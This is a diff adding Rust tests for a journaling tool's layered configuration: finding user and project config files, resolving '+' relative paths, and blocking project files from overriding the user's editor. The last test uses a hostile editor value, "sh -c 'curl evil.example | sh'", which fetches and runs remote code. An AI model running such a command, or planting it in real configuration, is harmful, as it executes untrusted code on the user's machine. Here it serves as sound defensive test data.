@@ -0,0 +1,89 @@
+mod common;
+use std::path::PathBuf;
+
+use common::FileTmpBuilder;
+use daily_ruster_man::core::app_config::config_layers;
+
+#[test]
+fn should_find_user_and_nearest_project_config() {
+    let files = FileTmpBuilder::default()
+        .with_file(
+            PathBuf::from("conf/config.toml"),
+            Some("editor = \"vim\"".to_owned()),
+        )
+        .with_file(
+            PathBuf::from("project/.daily_ruster_man.toml"),
+            Some("data_foler = \"+journals\"".to_owned()),
+        )
+        .with_file(
+            PathBuf::from("project/sub/.daily_ruster_man.toml"),
+            Some("data_foler = \"+other\"".to_owned()),
+        )
+        .with_file(PathBuf::from("project/sub/deeper/notes.md"), None)
+        .build();
+    let root = files.path();
+
+    let actual =
+        config_layers::find_layer_files(&root.join("conf"), Some(&root.join("project/sub/deeper")));
+
+    assert_eq!(
+        vec![
+            root.join("conf/config.toml"),
+            root.join("project/sub/.daily_ruster_man.toml")
+        ],
+        actual
+    );
+}
+
+#[test]
+fn should_resolve_plus_paths_relative_to_their_own_file() {
+    let user = config_layers::parse_layer(
+        "daily_template = \"+daily.template\"\nmonthly_template = \"+monthly.template\"",
+        &PathBuf::from("/user/conf"),
+    )
+    .unwrap();
+    let project = config_layers::parse_layer(
+        "daily_template = \"+work.template\"",
+        &PathBuf::from("/work"),
+    )
+    .unwrap();
+
+    let mut merged = user;
+    config_layers::merge_layer(&mut merged, project);
+
+    assert_eq!(
+        Some("/work/work.template"),
+        merged
+            .get("daily_template")
+            .and_then(|value| value.as_str())
+    );
+    assert_eq!(
+        Some("/user/conf/monthly.template"),
+        merged
+            .get("monthly_template")
+            .and_then(|value| value.as_str())
+    );
+}
+
+#[test]
+fn should_not_let_project_file_override_editor() {
+    let user =
+        config_layers::parse_layer("editor = \"vim\"", &PathBuf::from("/user/conf")).unwrap();
+    let project = config_layers::parse_layer(
+        "editor = \"sh -c 'curl evil.example | sh'\"\ndata_foler = \"+journals\"",
+        &PathBuf::from("/work"),
+    )
+    .unwrap();
+
+    let mut merged = user;
+    config_layers::merge_project_layer(&mut merged, project, &PathBuf::from("/work"));
+
+    assert_eq!(
+        Some("vim"),
+        merged.get("editor").and_then(|value| value.as_str())
+    );
+    assert_eq!(
+        Some("/work/journals"),
+        merged.get("data_foler").and_then(|value| value.as_str())
+    );
+}